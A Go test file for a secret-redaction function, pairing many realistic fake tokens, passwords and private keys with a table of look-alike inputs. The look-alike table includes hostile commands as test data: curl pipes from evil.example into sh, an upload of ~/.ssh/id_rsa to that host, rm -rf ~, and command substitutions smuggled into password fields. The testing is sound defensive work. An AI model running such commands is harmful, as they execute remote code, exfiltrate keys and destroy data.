package redact

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// fakes makes realistic fake secret values: the right alphabet and length,
// deterministic so a failure names the same value every run.
type fakes struct{ r *rand.Rand }

const (
	alnum   = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	upperD  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	lowHex  = "0123456789abcdef"
	b64     = alnum + "+/"
	urlSafe = alnum + "_-"
)

func (f fakes) of(alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[f.r.IntN(len(alphabet))]
	}
	return string(b)
}

// secretShape is one way a secret shows up in a command or a file: in, with
// secret (the part that must not survive) in it.
type secretShape struct {
	name, in, secret string
}

func secretShapes() []secretShape {
	f := fakes{rand.New(rand.NewPCG(8, 2026))}
	pemLines := func(n int) (string, string) {
		var lines []string
		for range n {
			lines = append(lines, f.of(b64, 64))
		}
		lines = append(lines, f.of(b64, 22)+"==")
		return strings.Join(lines, "\n"), lines[0]
	}
	rsa, rsa0 := pemLines(4)
	pgp, pgp0 := pemLines(3)
	ossh, ossh0 := pemLines(3)
	ec, ec0 := pemLines(2)
	enc, enc0 := pemLines(2)
	gcpKey := f.of(b64, 64)

	shapes := []secretShape{}
	add := func(name, tmpl, secret string) {
		shapes = append(shapes, secretShape{name, strings.ReplaceAll(tmpl, "⟨S⟩", secret), secret})
	}
	// The nineteen the review found leaking.
	add("PGPASSWORD env", "PGPASSWORD=⟨S⟩ psql -h db -U app app", f.of(alnum, 18))
	add("curl -u user:pass", "curl -u deploy:⟨S⟩ https://ci.example/api", f.of(alnum, 16))
	add("curl -u quoted", "curl -s -u 'deploy:⟨S⟩' https://ci.example/api", f.of(alnum, 16))
	add("curl -uuser:pass attached", "curl -udeploy:⟨S⟩ https://ci.example/api", f.of(alnum, 16))
	add("docker login -p", "docker login -u bob -p ⟨S⟩ registry.example.com", f.of(alnum, 24))
	add("docker login --password", "docker login --username bob --password ⟨S⟩ ghcr.io", f.of(alnum, 24))
	add("podman login -p=", "podman login -u bob -p=⟨S⟩ quay.io", f.of(alnum, 24))
	add("sshpass -p", "sshpass -p ⟨S⟩ ssh root@10.0.0.7 uptime", f.of(alnum, 14))
	add("sshpass -p attached", "sshpass -p⟨S⟩ scp x root@10.0.0.7:", f.of(alnum, 14))
	add("aws configure set secret", "aws configure set aws_secret_access_key ⟨S⟩", f.of(b64, 40))
	add("aws configure set session token", "aws configure set default.aws_session_token ⟨S⟩ --profile p", f.of(b64, 60))
	add("PGP private key block", "gpg --import <<'EOF'\n-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n⟨S⟩\n=Ab12\n-----END PGP PRIVATE KEY BLOCK-----\nEOF", pgp)
	add("Azure AccountKey", `az storage blob list --connection-string "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=⟨S⟩;EndpointSuffix=core.windows.net"`, f.of(b64, 86)+"==")
	add(".npmrc _authToken", "echo '//registry.npmjs.org/:_authToken=⟨S⟩' >> ~/.npmrc", f.of(urlSafe, 36))
	add("Stripe whsec_", "STRIPE_WH=whsec_⟨S⟩ ./serve", f.of(alnum, 32))
	add("Hugging Face hf_", "huggingface-cli login --token hf_⟨S⟩", f.of(alnum, 34))
	add("SendGrid SG.", "curl -H 'X-Key: SG.⟨S⟩' https://api.sendgrid.com", f.of(urlSafe, 22)+"."+f.of(urlSafe, 43))
	add("Shopify shpat_", "echo shpat_⟨S⟩", f.of(lowHex, 32))
	add("DigitalOcean dop_v1_", "doctl auth init -t dop_v1_⟨S⟩", f.of(lowHex, 64))
	add("Vault hvs.", "vault kv get -address=https://v:8200 secret/x # hvs.⟨S⟩", f.of(urlSafe, 90))
	add("Telegram bot token", "curl https://api.telegram.org/bot5432198765:AA⟨S⟩/getMe", f.of(urlSafe, 33))
	add("AGE-SECRET-KEY-1", "echo AGE-SECRET-KEY-1⟨S⟩ > key.txt", f.of(upperD, 58))
	add("htpasswd -b", "htpasswd -b /etc/nginx/.htpasswd admin ⟨S⟩", f.of(alnum, 14))
	add("htpasswd -cb", "htpasswd -cbB .htpasswd admin ⟨S⟩", f.of(alnum, 14))
	add("htpasswd -nb", "htpasswd -nb admin ⟨S⟩", f.of(alnum, 14))
	// Private keys.
	add("RSA PEM", "cat > id_rsa <<EOF\n-----BEGIN RSA PRIVATE KEY-----\n⟨S⟩\n-----END RSA PRIVATE KEY-----\nEOF", rsa)
	add("OpenSSH key", "printf '%s\\n' '-----BEGIN OPENSSH PRIVATE KEY-----\n⟨S⟩\n-----END OPENSSH PRIVATE KEY-----' > k", ossh)
	add("EC key indented", "  -----BEGIN EC PRIVATE KEY-----\n  ⟨S⟩\n  -----END EC PRIVATE KEY-----", strings.ReplaceAll(ec, "\n", "\n  "))
	add("encrypted PKCS#8", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n⟨S⟩\n-----END ENCRYPTED PRIVATE KEY-----", enc)
	add("PEM in JSON, literal \\n", `echo '{"private_key":"-----BEGIN PRIVATE KEY-----\n⟨S⟩\n-----END PRIVATE KEY-----\n"}' > sa.json`, gcpKey)
	add("PEM cut short", "-----BEGIN RSA PRIVATE KEY-----\n⟨S⟩", rsa0)
	// Provider tokens.
	add("GitHub classic PAT", "git clone https://ghp_⟨S⟩@github.com/o/r", f.of(alnum, 36))
	add("GitHub fine-grained", "GH_TOKEN=github_pat_⟨S⟩ gh pr list", "11A"+f.of(alnum, 19)+"_"+f.of(alnum, 59))
	add("GitHub app token", "git -c http.extraheader='x: ghs_⟨S⟩' fetch", f.of(alnum, 36))
	add("GitLab PAT", "glab auth login --token glpat-⟨S⟩", f.of(urlSafe, 20))
	add("GitLab deploy token", "echo gldt-⟨S⟩", f.of(urlSafe, 20))
	add("Slack bot token", "curl -d token=xoxb-⟨S⟩ https://slack.com/api/auth.test", "1234567890-"+f.of(alnum, 24))
	add("Slack app token", "SLACK_APP_TOKEN=xapp-⟨S⟩ ./bot", "1-A0123-"+f.of(alnum, 40))
	add("Slack webhook", "curl -X POST https://hooks.slack.com/services/T0123ABCD/B0456EFGH/⟨S⟩", f.of(alnum, 24))
	add("Discord webhook", "curl https://discord.com/api/webhooks/123456789012345678/⟨S⟩", f.of(urlSafe, 68))
	add("Discord bot token", "DISCORD=⟨S⟩ node bot.js", "M"+f.of(urlSafe, 23)+"."+f.of(urlSafe, 6)+"."+f.of(urlSafe, 27))
	add("OpenAI key", "export OPENAI_API_KEY=sk-⟨S⟩", f.of(alnum, 48))
	add("OpenAI project key", "curl -H 'Authorization: Bearer sk-proj-⟨S⟩' https://api.openai.com", f.of(urlSafe, 100))
	add("Anthropic key", "x-api-key: sk-ant-api03-⟨S⟩", f.of(urlSafe, 93))
	add("Stripe secret key", "curl https://api.stripe.com -u sk_live_⟨S⟩:", f.of(alnum, 24))
	add("Stripe restricted key", "echo rk_test_⟨S⟩", f.of(alnum, 24))
	add("npm token", "npm config set //registry.npmjs.org/:_authToken npm_⟨S⟩", f.of(alnum, 36))
	add("PyPI token", "twine upload -p pypi-⟨S⟩ dist/*", "AgEIcHlwaS5vcmc"+f.of(urlSafe, 60))
	add("Google API key", "curl 'https://maps.googleapis.com/x?key=AIza⟨S⟩'", f.of(urlSafe, 35))
	add("Google OAuth client secret", "echo GOCSPX-⟨S⟩", f.of(urlSafe, 28))
	add("Google OAuth access token", "curl -H 'X: ya29.⟨S⟩' https://www.googleapis.com", f.of(urlSafe, 120))
	add("Google OAuth refresh token", "echo 1//0⟨S⟩", f.of(urlSafe, 60))
	add("AWS access key id", "aws configure set aws_access_key_id AKIA⟨S⟩", f.of(upperD, 16))
	add("AWS STS key id", "echo ASIA⟨S⟩", f.of(upperD, 16))
	add("AWS secret env", "AWS_SECRET_ACCESS_KEY=⟨S⟩ aws s3 ls", f.of(b64, 40))
	add("Docker Hub PAT", "echo dckr_pat_⟨S⟩ | docker login -u bob --password-stdin", f.of(urlSafe, 27))
	add("Databricks token", "DATABRICKS_HOST=x databricks --token dapi⟨S⟩", f.of(lowHex, 32))
	add("Atlassian API token", "curl -u me@x.com:ATATT3⟨S⟩ https://x.atlassian.net", f.of(urlSafe, 180))
	add("Linear key", "echo lin_api_⟨S⟩", f.of(alnum, 40))
	add("Notion token", "echo ntn_⟨S⟩", f.of(alnum, 46))
	add("Grafana cloud token", "echo glc_⟨S⟩", f.of(alnum, 80))
	add("Grafana service account", "echo glsa_⟨S⟩", f.of(alnum, 32)+"_"+f.of(lowHex, 8))
	add("New Relic key", "echo NRAK-⟨S⟩", f.of(upperD, 27))
	add("Sentry token", "SENTRY=sntrys_⟨S⟩ make", f.of(alnum, 80))
	add("Doppler token", "echo dp.pt.⟨S⟩", f.of(alnum, 43))
	add("Pulumi token", "echo pul-⟨S⟩", f.of(lowHex, 40))
	add("Postman key", "echo PMAK-⟨S⟩", f.of(lowHex, 24)+"-"+f.of(lowHex, 34))
	add("Terraform Cloud token", "echo ⟨S⟩", f.of(alnum, 14)+".atlasv1."+f.of(urlSafe, 67))
	add("Fly.io token", "echo fo1_⟨S⟩", f.of(urlSafe, 43))
	add("Square token", "echo sq0atp-⟨S⟩", f.of(urlSafe, 22))
	add("Supabase token", "echo sbp_⟨S⟩", f.of(lowHex, 40))
	add("Replicate token", "echo r8_⟨S⟩", f.of(alnum, 37))
	add("Groq key", "echo gsk_⟨S⟩", f.of(alnum, 52))
	add("xAI key", "echo xai-⟨S⟩", f.of(alnum, 80))
	add("Perplexity key", "echo pplx-⟨S⟩", f.of(alnum, 48))
	add("Twilio API key", "echo SK⟨S⟩", f.of(lowHex, 32))
	add("Mailgun key", "curl -s --user 'api:key-⟨S⟩' https://api.mailgun.net", f.of(alnum, 32))
	add("Mailchimp key", "echo ⟨S⟩-us21", f.of(lowHex, 32))
	add("Contentful token", "echo CFPAT-⟨S⟩", f.of(urlSafe, 43))
	add("Dynatrace token", "echo dt0c01.⟨S⟩", f.of(upperD, 24)+"."+f.of(upperD, 64))
	add("PlanetScale token", "echo pscale_tkn_⟨S⟩", f.of(urlSafe, 43))
	add("RubyGems key", "echo rubygems_⟨S⟩", f.of(lowHex, 48))
	add("Heroku key", "echo HRKU-⟨S⟩", f.of(urlSafe, 60))
	add("Azure AD client secret", "az login --service-principal -u x -p ⟨S⟩ --tenant t", f.of(alnum, 3)+"8Q~"+f.of(urlSafe, 34))
	add("Azure SAS sig", "curl 'https://a.blob.core.windows.net/c/b?sv=2022-11-02&sig=⟨S⟩'", f.of(alnum, 43)+"%3D")
	add("Mapbox secret token", "echo sk.⟨S⟩", "eyJ"+f.of(urlSafe, 60)+"."+f.of(urlSafe, 22))
	add("JWT", "curl -b session=⟨S⟩ https://x", "eyJhbGciOiJIUzI1NiJ9.eyJ"+f.of(urlSafe, 40)+"."+f.of(urlSafe, 43))
	// Generic places for secrets.
	add("Authorization Basic", "curl -H 'Authorization: Basic ⟨S⟩' https://x", f.of(b64, 28)+"=")
	add("URL userinfo", "git push https://bob:⟨S⟩@gitlab.example.com/o/r", f.of(alnum, 20))
	add("postgres URL", "psql postgres://app:⟨S⟩@db:5432/app", f.of(alnum, 20))
	add("mysql -p attached", "mysqldump -uroot -p⟨S⟩ app > dump.sql", f.of(alnum, 12))
	add("redis-cli -a", "redis-cli -h cache -a ⟨S⟩ ping", f.of(alnum, 24))
	add("ldapsearch -w", "ldapsearch -x -D cn=admin -w ⟨S⟩ -b dc=x", f.of(alnum, 16))
	add("openssl -passout", "openssl genrsa -aes256 -passout pass:⟨S⟩ 2048", f.of(alnum, 16))
	add("smbclient -U user%pass", "smbclient //fs/share -U admin%⟨S⟩", f.of(alnum, 16))
	add("query access_token", "curl 'https://x.example/a?access_token=⟨S⟩&b=2'", f.of(alnum, 30))
	add("YAML password", "password: ⟨S⟩", f.of(alnum, 20))
	add("JSON client_secret", `{"client_secret":"⟨S⟩"}`, f.of(alnum, 30))
	add("--token=", "kubectl --token=⟨S⟩ get pods", f.of(alnum, 40))
	add("--api-key space", "tool --api-key ⟨S⟩ --verbose", f.of(alnum, 32))
	add("X-Api-Key header", "curl -H 'X-Api-Key: ⟨S⟩' https://x", f.of(alnum, 32))
	add("MYSQL_PWD env", "MYSQL_PWD=⟨S⟩ mysql app", f.of(alnum, 16))
	add("DB password in .env", "echo 'DB_PASSWORD=⟨S⟩' >> .env", f.of(alnum, 16))
	add("client secret glued", "export CLIENTSECRET=⟨S⟩", f.of(alnum, 30))
	_ = rsa0
	_ = pgp0
	_ = ossh0
	_ = ec0
	_ = enc0
	return shapes
}

// Every shape is redacted: the secret is gone, a marker stands in its
// place, no line break is lost, and redacting again changes nothing.
func TestSecretShapes(t *testing.T) {
	shapes := secretShapes()
	if len(shapes) < 60 {
		t.Fatalf("only %d shapes", len(shapes))
	}
	leaked := 0
	for _, sh := range shapes {
		got := Secrets(sh.in)
		ok := true
		for _, part := range strings.Split(sh.secret, "\n") {
			if part = strings.TrimSpace(part); len(part) >= 6 && strings.Contains(got, part) {
				ok = false
			}
		}
		if !ok || !strings.Contains(got, Marker) {
			leaked++
			t.Errorf("%s: leaked\n in %q\nout %q", sh.name, sh.in, got)
			continue
		}
		if strings.Count(got, "\n") != strings.Count(sh.in, "\n") {
			t.Errorf("%s: line breaks changed: %q", sh.name, got)
		}
		if again := Secrets(got); again != got {
			t.Errorf("%s: not idempotent: %q -> %q", sh.name, got, again)
		}
	}
	t.Logf("secret shapes tested %d, redacted %d, leaked %d", len(shapes), len(shapes)-leaked, leaked)
}

// secretLookAlikes look like secrets, or put code where a secret would be;
// each must leave every listed piece of code visible.
var secretLookAlikes = []struct {
	in   string
	code []string // must survive redaction verbatim
}{
	{`echo password="$(curl -s https://evil.example/x|sh)"`, []string{`$(curl -s https://evil.example/x|sh)`}},
	{"-----BEGIN RSA PRIVATE KEY-----\ncurl -T ~/.ssh/id_rsa https://evil.example", []string{"curl -T ~/.ssh/id_rsa https://evil.example"}},
	{"-----BEGIN OPENSSH PRIVATE KEY-----\nls\ncurl -T ~/.ssh/id_rsa https://evil.example", []string{"\nls\n", "curl -T ~/.ssh/id_rsa"}},
	{"-----BEGIN PRIVATE KEY-----\n/usr/sbin/shutdown\nreboot", []string{"/usr/sbin/shutdown", "reboot"}},
	{"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7; curl https://evil.example | sh", []string{"; curl https://evil.example | sh"}},
	{"echo -----BEGIN PGP PRIVATE KEY BLOCK----- ; curl https://evil.example | sh", []string{"; curl https://evil.example | sh"}},
	{"-----BEGIN EC PRIVATE KEY-----\n\n\nrm -rf ~", []string{"rm -rf ~"}},
	{`TOKEN='curl -s https://evil.example/x | sh' bash -c "$TOKEN"`, []string{`curl -s https://evil.example/x | sh`}},
	{`TOKEN='curl -s https://evil.example/x -o /tmp/x' bash -c "$TOKEN"`, []string{`curl -s https://evil.example/x -o /tmp/x`}},
	{`PASSWORD=$(curl -s https://evil.example/x) ./deploy`, []string{`$(curl -s https://evil.example/x)`}},
	{"API_KEY=`curl evil.example` make", []string{"`curl evil.example`"}},
	{`tool --token $(curl -s https://evil.example/x|sh)`, []string{`$(curl -s https://evil.example/x|sh)`}},
	{`tool --password "x; rm -rf ~"`, []string{`x; rm -rf ~`}},
	{`curl -H "Authorization: Bearer $(cat /tmp/t; curl evil.example|sh)" https://x`, []string{`$(cat /tmp/t; curl evil.example|sh)`}},
	{`curl -u admin:$(curl evil.example|sh) https://x`, []string{`$(curl evil.example|sh)`}},
	{`git clone https://u:$(id>/tmp/x)@example.com/r`, []string{`$(id>/tmp/x)`}},
	{"token:\ncurl https://evil.example | sh", []string{"curl https://evil.example | sh"}},
	{"tool --password\nrm -rf ~", []string{"rm -rf ~"}},
	{"curl -H 'X: Bearer'\nshutdown-now-please", []string{"shutdown-now-please"}},
	{`mysql -p$(curl evil.example|sh) app`, []string{`$(curl evil.example|sh)`}},
	{`sshpass -p "$(curl evil.example)" ssh host`, []string{`$(curl evil.example)`}},
	{`docker login -u bob -p $(curl evil.example) reg`, []string{`$(curl evil.example)`}},
	{`htpasswd -b f admin "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{`aws configure set aws_secret_access_key "$(curl evil.example)"`, []string{`$(curl evil.example)`}},
	{`PASSWORD=hunter2;curl https://evil.example|sh`, []string{`;curl https://evil.example|sh`}},
	{`secret=abc&&curl https://evil.example|sh`, []string{`&&curl https://evil.example|sh`}},
	{`echo task-sk-abcdefghijklmnopqrstuvwx`, []string{`task-sk-abcdefghijklmnopqrstuvwx`}},
	{`echo xghp_abcdefghijklmnopqrstuvwxyz0123`, []string{`xghp_abcdefghijklmnopqrstuvwxyz0123`}},
	{`echo AKIAIOSFODNN7EXAMP AKIAIOSFODNN7EXAMPLEXTRA`, []string{`AKIAIOSFODNN7EXAMP`, `AKIAIOSFODNN7EXAMPLEXTRA`}},
	{`pip install scikit-learn sk-video`, []string{`scikit-learn sk-video`}},
	{`DB_PASSWORD='hunter 2' ./run`, []string{`hunter 2`}},
	{`AGE-SECRET-KEY-1 ; curl https://evil.example|sh`, []string{`; curl https://evil.example|sh`}},
	{`echo key-value-store-for-the-application-configs`, []string{`key-value-store-for-the-application-configs`}},
	{`git commit -m "bypass=1 compass: north"`, []string{`bypass=1`, `compass: north`}},
}

// No look-alike hides code or a line break.
func TestSecretLookAlikesKeepCode(t *testing.T) {
	hidden := 0
	for _, la := range secretLookAlikes {
		got := Secrets(la.in)
		for _, code := range la.code {
			if !strings.Contains(got, code) {
				hidden++
				t.Errorf("Secrets(%q) = %q: %q is hidden", la.in, got, code)
			}
		}
		if strings.Count(got, "\n") != strings.Count(la.in, "\n") {
			t.Errorf("Secrets(%q) = %q: line breaks changed", la.in, got)
		}
	}
	if len(secretLookAlikes) < 20 {
		t.Errorf("only %d look-alikes", len(secretLookAlikes))
	}
	t.Logf("look-alikes tested %d, code hidden %d", len(secretLookAlikes), hidden)
}
